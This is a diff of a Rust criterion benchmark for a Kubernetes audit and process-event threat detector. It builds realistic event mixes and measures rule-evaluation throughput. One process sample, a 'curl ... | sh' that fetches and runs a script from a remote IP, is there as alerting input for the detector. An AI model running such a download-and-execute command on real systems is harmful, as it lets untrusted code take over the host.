@@ -1,59 +1,145 @@
-//! Detection throughput and webhook latency (not a test; run with
-//! `cargo bench -p keelwatch-detect --bench throughput`).
+//! Detection throughput (criterion): events per second through the whole built-in catalog.
 //!
-//! 1. events/s on one core through decode (JSON lines) + the whole built-in catalog, on a
-//!    realistic mix (mostly control-plane chatter, some workload changes, a few attacks);
-//! 2. the same with events pre-decoded (rule evaluation only);
-//! 3. p50/p99 latency of `POST /audit` (EventList of 50 events) over TLS on 127.0.0.1 with
-//!    4 concurrent clients: alerts are produced before the response is sent, so this bounds
-//!    "webhook POST to alert emitted".
+//! Groups (run with `cargo bench -p keelwatch-detect --bench throughput`):
+//! - `audit/decode+detect`: raw JSON lines → decode → redact → every catalog rule;
+//! - `audit/detect`: the same events already decoded (rule evaluation alone);
+//! - `audit/eventlist+detect`: the webhook backend's shape (EventLists of 50 events);
+//! - `process/decode+detect`: node exec events.
+//!
+//! Time is the benchmark thread's CPU time (`CLOCK_THREAD_CPUTIME_ID`), not wall time, so the
+//! figure is "events per second of one core" even on a loaded machine (caches and memory
+//! bandwidth are still shared: a busy machine gives a lower bound). Set
+//! `KEELWATCH_BENCH_WALL=1` to measure wall time instead.
+//!
+//! The audit mix imitates a real cluster's audit log: ~85% kubelet/controller/user
+//! get/list/watch and lease/status updates at Metadata level, some creates with bodies
+//! (controller pods, a CI deployment, config maps, services), and ~2% events that alert.
 
 #[path = "../tests/common/mod.rs"]
 mod common;
 
-use std::sync::mpsc;
-use std::time::{Duration, Instant};
+use std::time::Duration;
 
 use common::*;
+use criterion::measurement::{Measurement, ValueFormatter, WallTime};
+use criterion::{BenchmarkGroup, Criterion, Throughput, criterion_group};
+use keelwatch_detect::Detector;
 use keelwatch_detect::decode::{Event, read_stream};
-use keelwatch_detect::rules::load_rules;
-use keelwatch_detect::server::{ServerConfig, TlsSource, serve};
-use keelwatch_detect::{Aggregator, Detector};
+use keelwatch_detect::rules::{RuleSet, load_rules};
 use serde_json::{Value, json};
 
-/// The 1-minute load average, printed next to the figures: on a shared machine wall-clock
-/// rates are a lower bound of the per-core rate.
-fn load_average() -> String {
-    std::fs::read_to_string("/proc/loadavg").unwrap_or_default().split_whitespace().next().unwrap_or("?").to_string()
+/// CPU time of the calling thread.
+struct ThreadCpu;
+
+fn thread_cpu_ns() -> u64 {
+    let mut ts = libc::timespec { tv_sec: 0, tv_nsec: 0 };
+    // SAFETY: clock_gettime writes into the timespec we own.
+    unsafe { libc::clock_gettime(libc::CLOCK_THREAD_CPUTIME_ID, &mut ts) };
+    ts.tv_sec as u64 * 1_000_000_000 + ts.tv_nsec as u64
 }
 
-fn mix() -> Vec<Value> {
-    let mut v = Vec::new();
+static WALL: WallTime = WallTime;
+
+impl Measurement for ThreadCpu {
+    type Intermediate = u64;
+    type Value = u64;
+    fn start(&self) -> u64 {
+        thread_cpu_ns()
+    }
+    fn end(&self, start: u64) -> u64 {
+        thread_cpu_ns().saturating_sub(start)
+    }
+    fn add(&self, a: &u64, b: &u64) -> u64 {
+        a + b
+    }
+    fn zero(&self) -> u64 {
+        0
+    }
+    fn to_f64(&self, v: &u64) -> f64 {
+        *v as f64
+    }
+    fn formatter(&self) -> &dyn ValueFormatter {
+        WALL.formatter()
+    }
+}
+
+/// One cycle of the realistic audit mix (45 events).
+fn audit_mix() -> Vec<Value> {
     let node = "aks-nodepool1-12345678-vmss000000";
     let kubelet = format!("system:node:{node}");
-    v.push(
-        audit("update", "leases", Some("kube-node-lease"), Some(node))
-            .user(&kubelet)
-            .ua("kubelet/v1.29.2")
-            .metadata_level()
-            .v(),
-    );
-    v.push(audit("patch", "nodes", None, Some(node)).sub("status", "?timeout=10s").user(&kubelet).metadata_level().v());
-    v.push(audit("get", "configmaps", Some("kube-system"), Some("kube-proxy")).user(&kubelet).metadata_level().v());
-    v.push(audit("watch", "pods", None, None).user(&kubelet).metadata_level().v());
-    v.push(audit("list", "pods", Some("shop"), None).metadata_level().v());
-    v.push(
-        audit("update", "leases", Some("kube-system"), Some("kube-controller-manager"))
-            .user("system:kube-controller-manager")
-            .metadata_level()
-            .v(),
-    );
-    v.push(audit("create", "events", Some("shop"), None).user(&kubelet).metadata_level().v());
+    let kcm = "system:kube-controller-manager";
+    let mut v = Vec::new();
+    for _ in 0..4 {
+        v.push(
+            audit("update", "leases", Some("kube-node-lease"), Some(node))
+                .user(&kubelet)
+                .ua("kubelet/v1.29.2")
+                .metadata_level()
+                .v(),
+        );
+    }
+    for _ in 0..2 {
+        v.push(
+            audit("patch", "nodes", None, Some(node)).sub("status", "?timeout=10s").user(&kubelet).metadata_level().v(),
+        );
+        v.push(audit("get", "configmaps", Some("kube-system"), Some("kube-proxy")).user(&kubelet).metadata_level().v());
+        v.push(
+            audit("patch", "pods", Some("shop"), Some("web-7d9c5b7f4-x2x9z"))
+                .sub("status", "")
+                .user(&kubelet)
+                .metadata_level()
+                .v(),
+        );
+    }
+    for _ in 0..3 {
+        v.push(
+            audit("watch", "pods", None, None)
+                .uri(&format!("/api/v1/pods?fieldSelector=spec.nodeName%3D{node}&watch=true"))
+                .user(&kubelet)
+                .metadata_level()
+                .v(),
+        );
+        v.push(
+            audit("update", "leases", Some("kube-system"), Some("kube-controller-manager"))
+                .user(kcm)
+                .metadata_level()
+                .v(),
+        );
+    }
+    v.push(audit("get", "secrets", Some("shop"), Some("web-tls")).user(&kubelet).metadata_level().v());
+    v.push(audit("list", "services", None, None).user(&kubelet).metadata_level().v());
+    for sa in ["endpointslice-controller", "replicaset-controller", "deployment-controller"] {
+        v.push(
+            audit("list", "pods", None, None)
+                .user(&format!("system:serviceaccount:kube-system:{sa}"))
+                .metadata_level()
+                .v(),
+        );
+    }
+    for _ in 0..2 {
+        v.push(audit("watch", "endpoints", None, None).user("system:kube-proxy").metadata_level().v());
+        v.push(audit("get", "deployments", Some("shop"), Some("web")).user(kcm).metadata_level().v());
+    }
+    for _ in 0..3 {
+        v.push(
+            audit("list", "pods", Some("shop"), None)
+                .uri("/api/v1/namespaces/shop/pods?limit=500")
+                .metadata_level()
+                .v(),
+        );
+        v.push(audit("create", "events", Some("shop"), None).user(&kubelet).metadata_level().v());
+    }
+    for _ in 0..2 {
+        v.push(audit("get", "pods", Some("shop"), Some("web-7d9c5b7f4-x2x9z")).metadata_level().v());
+    }
     v.push(audit("get", "pods", Some("shop"), Some("web-1")).sub("log", "?container=web").metadata_level().v());
+    v.push(audit("watch", "configmaps", Some("shop"), None).metadata_level().v());
+    v.push(audit("create", "tokenreviews", None, None).user("system:kube-apiserver").metadata_level().v());
+    // Creates with bodies.
     v.push(
-        audit("create", "pods", Some("shop"), Some("web-1"))
+        audit("create", "pods", Some("shop"), Some("web-7d9c5b7f4-x2x9z"))
             .user("system:serviceaccount:kube-system:replicaset-controller")
-            .req(pod("web-1", "shop", &[("web", "contoso.azurecr.io/web:1.4.2", false)], json!({})))
+            .req(pod("web-7d9c5b7f4-x2x9z", "shop", &[("web", "contoso.azurecr.io/web:1.4.2", false)], json!({})))
             .v(),
     );
     v.push(
@@ -64,148 +150,157 @@ fn mix() -> Vec<Value> {
     );
     v.push(
         audit("create", "configmaps", Some("shop"), Some("web"))
-            .req(json!({"kind": "ConfigMap", "data": {"LOG_LEVEL": "info"}}))
+            .req(json!({"kind": "ConfigMap", "metadata": {"name": "web"}, "data": {"LOG_LEVEL": "info"}}))
             .v(),
     );
     v.push(
-        audit("create", "pods", Some("default"), Some("x"))
-            .req(pod("x", "default", &[("c", "alpine", true)], json!({"hostPID": true})))
+        audit("create", "services", Some("shop"), Some("web"))
+            .req(service("web", "shop", "ClusterIP", &[80], json!({}), json!({"app": "web"})))
             .v(),
     );
+    // Alerting: the test alert.
     v.push(audit("list", "pods", Some("asc-alerttest-662jfi039n"), None).metadata_level().v());
-    v.push(process(&["sh", "-c", "ls -la /app"], "/bin/sh"));
-    v.push(process(&["curl", "-fsS", "https://api.contoso.com/health"], "/usr/bin/curl"));
-    v.push(process(&["sh", "-c", "curl -fsSL http://203.0.113.5/x.sh | sh"], "/bin/sh"));
     v
 }
 
-/// `n` JSON lines cycling through the mix with unique auditIDs.
-fn lines(n: usize) -> String {
-    let base = mix();
-    let mut out = String::with_capacity(n * 900);
+fn process_mix() -> Vec<Value> {
+    [
+        (vec!["nginx", "-g", "daemon off;"], "/usr/sbin/nginx"),
+        (vec!["sh", "-c", "ls -la /app && cat /app/config.yaml"], "/bin/sh"),
+        (vec!["curl", "-fsS", "https://api.contoso.com/health"], "/usr/bin/curl"),
+        (vec!["python3", "-m", "gunicorn", "app:app"], "/usr/bin/python3"),
+        (vec!["/usr/local/bin/kubelet", "--kubeconfig=/var/lib/kubelet/kubeconfig"], "/usr/local/bin/kubelet"),
+        (vec!["cat", "/etc/os-release"], "/bin/cat"),
+        (vec!["grep", "-r", "TODO", "."], "/bin/grep"),
+        (vec!["sh", "-c", "curl -fsSL http://203.0.113.5/x.sh | sh"], "/bin/sh"),
+    ]
+    .iter()
+    .map(|(argv, exe)| process(argv, exe))
+    .collect()
+}
+
+/// `n` JSON lines cycling through `base` with unique auditIDs.
+fn lines(base: &[Value], n: usize) -> Vec<u8> {
+    let mut out = Vec::new();
     for i in 0..n {
         let mut e = base[i % base.len()].clone();
         if e.get("auditID").is_some() {
             e["auditID"] = json!(format!("bench-{i}"));
         }
-        out.push_str(&e.to_string());
-        out.push('\n');
+        out.extend_from_slice(e.to_string().as_bytes());
+        out.push(b'\n');
     }
     out
 }
 
-fn main() {
-    let rules = std::sync::Arc::new(load_rules(true, &[]).unwrap());
-    let n = 100_000;
-    let text = lines(n);
-    println!("input: {n} events, {:.1} MiB, average {} bytes/event", text.len() as f64 / 1048576.0, text.len() / n);
-
-    for round in 0..2 {
-        let mut det = Detector::new(rules.clone(), "bench");
-        let mut alerts = 0usize;
-        let t = Instant::now();
-        let stats = read_stream("bench", text.as_bytes(), |e| alerts += det.process(&e).len(), |_| {}).unwrap();
-        let dt = t.elapsed();
-        let events = stats.audit_events + stats.process_events;
-        println!(
-            "[{round}] decode + catalog: {events} events in {dt:.2?} = {:.0} events/s on one thread ({alerts} alerts, load {})",
-            events as f64 / dt.as_secs_f64(),
-            load_average()
+/// The same events as EventLists of `batch` items, one per line.
+fn event_lists(base: &[Value], n: usize, batch: usize) -> Vec<u8> {
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < n {
+        let items: Vec<Value> = (i..(i + batch).min(n))
+            .map(|k| {
+                let mut e = base[k % base.len()].clone();
+                e["auditID"] = json!(format!("bench-{k}"));
+                e
+            })
+            .collect();
+        out.extend_from_slice(
+            json!({"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "items": items}).to_string().as_bytes(),
         );
+        out.push(b'\n');
+        i += batch;
     }
-    let mut decoded: Vec<Event> = Vec::with_capacity(n);
-    read_stream("bench", text.as_bytes(), |e| decoded.push(e), |_| {}).unwrap();
-    let mut det = Detector::new(rules.clone(), "bench");
-    let t = Instant::now();
-    let mut alerts = 0usize;
-    for e in &decoded {
-        alerts += det.process(e).len();
-    }
-    let dt = t.elapsed();
-    println!(
-        "catalog only (pre-decoded): {:.0} events/s on one thread ({alerts} alerts, load {})",
-        decoded.len() as f64 / dt.as_secs_f64(),
-        load_average()
-    );
-
-    latency(rules);
+    out
 }
 
-fn latency(rules: std::sync::Arc<keelwatch_detect::rules::RuleSet>) {
-    let dir = tempfile::tempdir().unwrap();
-    let config = ServerConfig {
-        listen: "127.0.0.1:0".parse().unwrap(),
-        tls: TlsSource::SelfSigned { dir: dir.path().join("tls"), names: vec![] },
-        token: Some("t".into()),
-        client_ca: None,
-        body_limit: 16 << 20,
-        alerts_out: Some(dir.path().join("alerts.jsonl")),
-        webhook: None,
-    };
-    let (ready_tx, ready_rx) = mpsc::channel();
-    let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
-    let server = std::thread::spawn(move || {
-        let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
-        rt.block_on(serve(
-            config,
-            Detector::new(rules, "bench"),
-            Aggregator::new(chrono::Duration::seconds(300), true),
-            move |a| {
-                let _ = ready_tx.send(a);
-            },
-            async move {
-                let _ = stop_rx.await;
-            },
-        ))
-        .unwrap();
-    });
-    let addr = ready_rx.recv().unwrap();
-    let ca = reqwest::Certificate::from_pem(&std::fs::read(dir.path().join("tls/tls.crt")).unwrap()).unwrap();
-    let base = mix();
-    let clients = 4;
-    let per_client = 250;
-    let batch = 50;
-    let mut handles = Vec::new();
-    for c in 0..clients {
-        let ca = ca.clone();
-        let base = base.clone();
-        handles.push(std::thread::spawn(move || {
-            let client = reqwest::blocking::Client::builder()
-                .add_root_certificate(ca)
-                .timeout(Duration::from_secs(30))
-                .build()
-                .unwrap();
-            let url = format!("https://localhost:{}/audit", addr.port());
-            let mut lat = Vec::with_capacity(per_client);
-            for r in 0..per_client {
-                let items: Vec<Value> = (0..batch)
-                    .map(|i| {
-                        let mut e = base[(r * batch + i) % base.len()].clone();
-                        e["auditID"] = json!(format!("lat-{c}-{r}-{i}"));
-                        e
-                    })
-                    .filter(|e| e.get("pid").is_none())
-                    .collect();
-                let body = json!({"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "items": items}).to_string();
-                let t = Instant::now();
-                let resp = client.post(&url).bearer_auth("t").body(body).send().unwrap();
-                assert!(resp.status().is_success());
-                let _ = resp.bytes();
-                lat.push(t.elapsed());
-            }
-            lat
-        }));
-    }
-    let mut all: Vec<Duration> = handles.into_iter().flat_map(|h| h.join().unwrap()).collect();
-    all.sort();
-    let pct = |p: f64| all[((all.len() as f64 * p) as usize).min(all.len() - 1)];
-    println!(
-        "POST /audit ({clients} clients, EventList of ~{batch}): n={} p50={:.2?} p99={:.2?} max={:.2?}",
-        all.len(),
-        pct(0.50),
-        pct(0.99),
-        all[all.len() - 1]
+fn decode_detect(rules: &std::sync::Arc<RuleSet>, input: &[u8]) -> usize {
+    let mut det = Detector::new(rules.clone(), "bench");
+    let mut alerts = 0;
+    read_stream("bench", input, |e| alerts += det.process(&e).len(), |m| panic!("{m}")).unwrap();
+    alerts
+}
+
+fn run<M: Measurement>(group: &mut BenchmarkGroup<'_, M>, rules: &std::sync::Arc<RuleSet>) {
+    const N: usize = 9_000;
+    let audit = audit_mix();
+    let audit_lines = lines(&audit, N);
+    let alerts = decode_detect(rules, &audit_lines);
+    eprintln!(
+        "audit mix: {N} events, {} bytes/event on average, {alerts} alerts ({:.1}%)",
+        audit_lines.len() / N,
+        alerts as f64 * 100.0 / N as f64
     );
-    let _ = stop_tx.send(());
-    server.join().unwrap();
+    group.throughput(Throughput::Elements(N as u64));
+    group.bench_function("audit/decode+detect", |b| b.iter(|| decode_detect(rules, &audit_lines)));
+
+    let mut decoded: Vec<Event> = Vec::with_capacity(N);
+    read_stream("bench", &audit_lines[..], |e| decoded.push(e), |m| panic!("{m}")).unwrap();
+    group.bench_function("audit/detect", |b| {
+        b.iter(|| {
+            let mut det = Detector::new(rules.clone(), "bench");
+            decoded.iter().map(|e| det.process(e).len()).sum::<usize>()
+        })
+    });
+
+    // Reference: the same events through the general decoder (JSON value tree first) and
+    // every rule without the index, i.e. the engine before the fast paths.
+    group.bench_function("audit/reference-general-decode+unindexed", |b| {
+        b.iter(|| {
+            let mut n = 0;
+            for line in audit_lines.split(|c| *c == b'\n').filter(|l| !l.is_empty()) {
+                let v: Value = serde_json::from_slice(line).unwrap();
+                let (mut evs, mut problems, mut stats) = (Vec::new(), Vec::new(), Default::default());
+                keelwatch_detect::decode::decode_value(v, &mut evs, &mut problems, &mut stats);
+                for e in &evs {
+                    if let Event::Audit(a) = e {
+                        n += rules.eval_audit_unindexed(a, 0).len();
+                    }
+                }
+            }
+            n
+        })
+    });
+
+    let lists = event_lists(&audit, N, 50);
+    group.bench_function("audit/eventlist+detect", |b| b.iter(|| decode_detect(rules, &lists)));
+
+    let procs = lines(&process_mix(), N);
+    group.bench_function("process/decode+detect", |b| b.iter(|| decode_detect(rules, &procs)));
+}
+
+fn throughput(c: &mut Criterion<ThreadCpu>) {
+    let rules = std::sync::Arc::new(load_rules(true, &[]).expect("catalog compiles"));
+    let mut group = c.benchmark_group("catalog");
+    group.measurement_time(Duration::from_secs(8)).sample_size(20);
+    run(&mut group, &rules);
+    group.finish();
+}
+
+fn throughput_wall(c: &mut Criterion) {
+    let rules = std::sync::Arc::new(load_rules(true, &[]).expect("catalog compiles"));
+    let mut group = c.benchmark_group("catalog-wall");
+    group.measurement_time(Duration::from_secs(8)).sample_size(20);
+    run(&mut group, &rules);
+    group.finish();
+}
+
+fn cpu() -> Criterion<ThreadCpu> {
+    Criterion::default().with_measurement(ThreadCpu)
+}
+
+criterion_group! {
+    name = cpu_benches;
+    config = cpu();
+    targets = throughput
+}
+criterion_group!(wall_benches, throughput_wall);
+
+fn main() {
+    if std::env::var_os("KEELWATCH_BENCH_WALL").is_some() {
+        wall_benches();
+    } else {
+        cpu_benches();
+    }
+    Criterion::default().configure_from_args().final_summary();
 }
